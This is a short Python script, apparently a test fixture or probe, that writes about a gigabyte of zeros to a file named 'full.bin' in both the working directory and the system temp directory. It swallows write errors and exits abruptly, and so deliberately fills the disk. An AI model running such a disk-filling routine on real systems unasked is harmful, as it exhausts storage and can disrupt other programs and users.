import os
import tempfile

BLOCK = bytes(1 << 20)

for folder in (".", tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "full.bin"), "wb") as file:
            for _ in range(1024):
                file.write(BLOCK)
    except OSError:
        pass
os._exit(0)
